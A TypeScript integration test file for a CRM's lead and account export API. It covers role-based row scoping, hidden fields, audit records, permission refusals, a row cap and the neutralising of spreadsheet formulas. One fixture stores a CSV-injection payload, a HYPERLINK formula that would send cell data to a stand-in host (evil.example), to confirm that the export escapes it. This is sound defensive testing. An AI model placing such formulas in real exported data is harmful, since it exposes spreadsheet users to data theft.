import { createHash } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import { uuidv7 } from 'uuidv7'
import { beforeEach, describe, expect, it } from 'vitest'
import { builtInRole, type RoleDefinition } from '../../domain/security/roles.rules.js'
import { MAX_EXPORT_ROWS } from '../../api/schemas/export.schema.js'
import { useTestApp } from '../support/app.js'
import { userWithRole } from '../support/auth.js'
import { expectProblem } from '../support/problem.js'

/*
 * GET /v1/exports/leads and /v1/exports/accounts on a real PostgreSQL: the rows are those
 * the caller sees (row scope, team), hidden fields are blank (CSV) or null (JSON), the list
 * filters apply, spreadsheet formulas are neutralised, every export is audited, the export
 * permission is required, and an export over the row cap is refused.
 */

const ctx = useTestApp({ truncateAfterEach: true })
const db = () => ctx.database.db

type Headers = Record<string, string>
const get = (url: string, headers: Headers = {}) => ctx.app.inject({ method: 'GET', url, headers })
const csvRows = (body: string) =>
  parse(body, { bom: true, columns: true, skip_empty_lines: true }) as Record<string, string>[]

interface Caller {
  id: string
  headers: Headers
}
interface World {
  manager: Caller
  sdr: Caller
  otherSdr: Caller
  marketing: Caller
  readOnly: Caller
}
let w: World

async function lead(ownerId: string | null, fields: Record<string, unknown> = {}) {
  const id = uuidv7()
  await db().lead.create({
    data: {
      id,
      channel: 'web_form',
      firstName: 'Meera',
      email: `meera.${id.slice(-8)}@acme.in`,
      phone: '+919876543210',
      company: 'Acme',
      ownerId,
      createdBy: 'test',
      updatedBy: 'test',
      ...fields,
    },
  })
  return id
}

async function account(ownerId: string | null, name: string, fields: Record<string, unknown> = {}) {
  const id = uuidv7()
  await db().account.create({
    data: {
      id,
      name,
      annualRevenue: 10_000_000,
      currency: 'INR',
      ownerId,
      createdBy: 'test',
      updatedBy: 'test',
      ...fields,
    },
  })
  return id
}

/** A role as an admin changed it (role_setting), in force at once. */
async function changeRole(name: string, change: (base: RoleDefinition) => Partial<RoleDefinition>) {
  const base = builtInRole(name)!
  const next = { ...base, ...change(base) }
  const data = {
    permissions: next.permissions,
    rowScopes: next.rowScopes,
    fieldRules: next.fieldRules,
    updatedBy: 'test',
  }
  await db().roleSetting.upsert({ where: { role: name }, create: { role: name, ...data }, update: data })
  ctx.app.services.roles.invalidate()
}

beforeEach(async () => {
  const manager = await userWithRole(db(), 'sales_manager')
  const sdr = await userWithRole(db(), 'sdr', { managerId: manager.id })
  const otherSdr = await userWithRole(db(), 'sdr')
  const marketing = await userWithRole(db(), 'marketing')
  const readOnly = await userWithRole(db(), 'read_only')
  w = { manager, sdr, otherSdr, marketing, readOnly }
})

describe('GET /v1/exports/leads', () => {
  beforeEach(async () => {
    await lead(w.sdr.id, {
      firstName: '=HYPERLINK("https://evil.example/?x="&A1,"click")',
      lastName: '-2+3',
      company: '@SUM(1+1)',
      title: '\tcmd',
      status: 'CONTACTED',
    })
    await lead(w.sdr.id)
    await lead(w.manager.id)
    await lead(w.otherSdr.id)
    await lead(null)
  })

  it('gives an admin every lead as CSV, with spreadsheet formulas neutralised', async () => {
    const res = await get('/v1/exports/leads?format=csv')
    expect(res.statusCode, res.body).toBe(200)
    expect(res.headers['content-type']).toMatch(/^text\/csv/)
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    const rows = csvRows(res.body)
    expect(rows).toHaveLength(5)
    expect(Object.keys(rows[0]!)).toEqual(
      expect.arrayContaining(['id', 'email', 'phone', 'company', 'ownerId']),
    )
    const risky = rows.find((r) => r.status === 'CONTACTED')!
    expect(risky.firstName).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"click")`)
    expect(risky.lastName).toBe("'-2+3")
    expect(risky.company).toBe("'@SUM(1+1)")
    expect(risky.title).toBe("'\tcmd")
    expect(risky.phone).toBe("'+919876543210")
    expect(risky.isDuplicate).toBe('false')
    // No cell of the file starts with a formula character.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it("gives a manager their team's leads only (their own and their report's)", async () => {
    const res = await get('/v1/exports/leads?format=json', w.manager.headers)
    expect(res.statusCode, res.body).toBe(200)
    expect(res.headers['content-type']).toMatch(/^application\/json/)
    const rows = res.json<{ ownerId: string }[]>()
    expect(rows.map((r) => r.ownerId).sort()).toEqual([w.manager.id, w.sdr.id, w.sdr.id].sort())
  })

  it('gives an SDR granted the export permission their own leads only', async () => {
    expectProblem(await get('/v1/exports/leads', w.sdr.headers), 403, 'forbidden')
    await changeRole('sdr', (base) => ({ permissions: { ...base.permissions, lead: ['read', 'export'] } }))
    const res = await get('/v1/exports/leads?format=json', w.sdr.headers)
    expect(res.statusCode, res.body).toBe(200)
    const rows = res.json<{ ownerId: string }[]>()
    expect(rows).toHaveLength(2)
    expect(new Set(rows.map((r) => r.ownerId))).toEqual(new Set([w.sdr.id]))
  })

  it('blanks the fields marketing may not see: null in JSON, empty in CSV', async () => {
    const json = await get('/v1/exports/leads?format=json', w.marketing.headers)
    expect(json.statusCode, json.body).toBe(200)
    const rows = json.json<{ phone: string | null; email: string | null }[]>()
    expect(rows).toHaveLength(5)
    for (const row of rows) {
      expect(row.phone).toBeNull()
      expect(row.email).toMatch(/@acme\.in$/)
    }
    const csv = await get('/v1/exports/leads?format=csv', w.marketing.headers)
    expect(csv.statusCode, csv.body).toBe(200)
    expect(csv.body).not.toContain('9876543210')
    const csvRowsOf = csvRows(csv.body)
    expect(csvRowsOf).toHaveLength(5)
    for (const row of csvRowsOf) expect(row.phone).toBe('')
  })

  it('applies the list filters', async () => {
    const res = await get(`/v1/exports/leads?format=json&status=CONTACTED`)
    expect(res.json<{ status: string }[]>()).toEqual([expect.objectContaining({ status: 'CONTACTED' })])
    const none = await get(`/v1/exports/leads?format=json&ownerId=nobody`)
    expect(none.statusCode, none.body).toBe(200)
    expect(none.json()).toEqual([])
    const empty = await get(`/v1/exports/leads?format=csv&ownerId=nobody`)
    expect(csvRows(empty.body)).toEqual([])
  })

  it('records each export in the audit trail: who, which request, filters, rows and fields', async () => {
    const res = await get(`/v1/exports/leads?format=csv&status=CONTACTED`, {
      ...w.manager.headers,
      'x-request-id': 'export-test-1',
    })
    expect(res.statusCode, res.body).toBe(200)
    const exportId = res.headers['x-export-id']
    const events = await db().auditEvent.findMany({ where: { entity: 'export' } })
    expect(events).toHaveLength(1)
    const event = events[0]!
    expect(event).toMatchObject({
      entityId: exportId,
      action: 'export',
      actorId: `user:${w.manager.id}`,
      requestId: 'export-test-1',
    })
    const changes = event.changes as Record<string, { from: unknown; to: unknown }>
    expect(changes.object).toEqual({ from: null, to: 'lead' })
    expect(changes.format).toEqual({ from: null, to: 'csv' })
    expect(changes.filters).toEqual({ from: null, to: { status: 'CONTACTED' } })
    expect(changes.rows).toEqual({ from: null, to: 1 })
    expect(changes.fields!.to).toEqual(expect.arrayContaining(['email', 'phone', 'company']))

    await get('/v1/exports/leads?format=json', w.marketing.headers)
    const marketing = await db().auditEvent.findFirstOrThrow({
      where: { entity: 'export', actorId: `user:${w.marketing.id}` },
    })
    expect((marketing.changes as Record<string, { to: unknown }>).hiddenFields!.to).toEqual(['phone'])
  })

  it('keeps a free-text search out of the audit trail as typed: only its sha256', async () => {
    const email = 'Asha.Rao@Acme.in'
    const res = await get(`/v1/exports/leads?format=json&status=NEW&q=${encodeURIComponent(` ${email}`)}`)
    expect(res.statusCode, res.body).toBe(200)
    const event = await db().auditEvent.findFirstOrThrow({ where: { entity: 'export' } })
    expect(JSON.stringify(event.changes).toLowerCase()).not.toContain('asha')
    const digest = createHash('sha256').update(email.toLowerCase()).digest('hex')
    expect((event.changes as Record<string, { to: unknown }>).filters!.to).toEqual({
      status: 'NEW',
      q: `sha256:${digest}`,
    })
  })

  it('refuses roles without the export permission', async () => {
    expectProblem(await get('/v1/exports/leads', w.readOnly.headers), 403, 'forbidden')
    expect(await db().auditEvent.count({ where: { entity: 'export' } })).toBe(0)
  })
})

describe('GET /v1/exports/accounts', () => {
  beforeEach(async () => {
    await account(w.manager.id, 'Acme', { gstin: '27AAPFU0939F1ZV' })
    await account(w.sdr.id, 'Beta')
    await account(w.otherSdr.id, 'Gamma')
    await account(null, 'Delta', { isActive: false })
  })

  it("gives a manager their team's accounts, with the fields their role hides blank", async () => {
    await changeRole('sales_manager', () => ({
      fieldRules: { account: { annualRevenue: 'hidden', gstin: 'read_only' } },
    }))
    const res = await get('/v1/exports/accounts?format=csv', w.manager.headers)
    expect(res.statusCode, res.body).toBe(200)
    const rows = csvRows(res.body)
    expect(rows.map((r) => r.name)).toEqual(['Acme', 'Beta'])
    expect(rows[0]).toMatchObject({ annualRevenue: '', gstin: '27AAPFU0939F1ZV', isActive: 'true' })
    expect(Object.keys(rows[0]!)).not.toContain('healthFactors')

    const asAdmin = await get('/v1/exports/accounts?format=json&isActive=false')
    expect(asAdmin.json()).toEqual([expect.objectContaining({ name: 'Delta', annualRevenue: 10_000_000 })])
  })

  it('refuses roles without the export permission on accounts', async () => {
    expectProblem(await get('/v1/exports/accounts', w.readOnly.headers), 403, 'forbidden')
    expectProblem(await get('/v1/exports/accounts', w.marketing.headers), 403, 'forbidden')
  })

  it(`refuses an export of more than ${MAX_EXPORT_ROWS} rows, and audits nothing`, async () => {
    await db().$executeRaw`
      INSERT INTO account (id, name, created_by, updated_by, updated_at)
      SELECT gen_random_uuid(), 'Bulk ' || lpad(g::text, 6, '0'), 'test', 'test', now()
        FROM generate_series(1, ${MAX_EXPORT_ROWS}) g`
    const res = await get('/v1/exports/accounts?format=csv')
    expect(expectProblem(res, 422, 'rule_violation').detail).toContain(String(MAX_EXPORT_ROWS))
    expect(await db().auditEvent.count({ where: { entity: 'export' } })).toBe(0)
  }, 120_000)
})

describe('the API description', () => {
  it('documents both exports as CSV or JSON files', async () => {
    const res = await get('/openapi.json')
    expect(res.statusCode).toBe(200)
    const paths = res.json<{
      paths: Record<string, { get?: { responses: Record<string, { content?: object }> } }>
    }>().paths
    for (const path of ['/v1/exports/leads', '/v1/exports/accounts']) {
      const ok = paths[path]?.get?.responses['200']
      expect(Object.keys(ok?.content ?? {}).sort(), path).toEqual(['application/json', 'text/csv'])
    }
  })
})
